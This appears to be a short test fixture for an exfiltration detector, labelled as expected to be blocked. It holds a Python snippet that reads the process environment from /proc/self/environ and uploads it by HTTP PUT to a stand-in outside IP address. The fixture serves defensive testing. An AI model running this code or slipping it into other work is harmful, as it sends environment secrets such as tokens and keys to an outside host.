# expect: BLOCKED category: exfiltration
# Reads the process environment from /proc and uploads it.
import requests

environ = open("/proc/self/environ", "rb").read().replace(b"\0", b"\n")
requests.put("https://203.0.113.9/env", data=environ, timeout=5)
